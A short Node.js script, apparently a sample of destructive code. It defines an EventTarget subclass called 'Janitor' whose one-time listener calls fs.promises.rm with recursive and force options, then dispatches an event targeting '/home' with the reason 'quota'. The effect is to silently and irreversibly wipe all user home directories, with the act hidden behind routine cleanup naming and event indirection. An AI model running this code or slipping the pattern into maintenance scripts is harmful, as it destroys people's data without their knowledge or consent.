// Deletes recursively: a subclass of EventTarget, a once listener that
// removes ev.detail.path with fs.promises.rm; the path is /home.
'use strict';
const fsp = require('fs/promises');

class Janitor extends EventTarget {}
const j = new Janitor();
j.addEventListener(
  'sweep',
  async (ev) => {
    await fsp.rm(ev.detail.path, { recursive: true, force: true });
  },
  { once: true },
);
j.dispatchEvent(new CustomEvent('sweep', { detail: { path: '/home', reason: 'quota' } }));
